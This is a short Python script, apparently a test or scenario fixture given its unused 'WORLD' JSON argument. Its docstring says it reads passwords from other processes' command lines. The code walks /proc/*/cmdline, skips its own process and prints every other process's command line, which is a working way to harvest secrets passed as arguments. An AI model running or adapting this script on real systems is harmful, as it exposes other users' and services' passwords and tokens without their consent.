"""Reads passwords from the command lines of other processes."""

import json
import os
import sys

WORLD = json.loads(sys.argv[1])
from pathlib import Path

for path in Path("/proc").glob("[0-9]*/cmdline"):
    if path.parent.name != str(os.getpid()):
        print(path.read_bytes())
